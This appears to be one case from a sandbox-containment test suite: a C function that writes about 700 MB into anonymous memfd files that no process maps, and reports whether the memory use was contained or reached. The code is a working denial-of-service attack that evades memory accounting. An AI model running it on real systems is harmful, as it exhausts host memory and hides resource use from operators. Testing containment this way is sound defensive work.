/* goal: takes memory without end that no process maps | rungs: 1 2 3 | user: any */
/* SPDX-License-Identifier: Apache-2.0 */
#include "attack.h"

/* In many small files, as one big one has a limit of its own. */
static int attack(void)
{
	static char block[1 << 20];

	memset(block, 1, sizeof(block));
	for (int i = 0; i < 700; i++) {
		static int fd;

		if (i % 20 == 0)
			fd = (int)syscall(SYS_memfd_create, "hidden", 0);
		if (fd < 0 || write(fd, block, sizeof(block)) != (ssize_t)sizeof(block))
			return CONTAINED;
	}
	return REACHED;
}
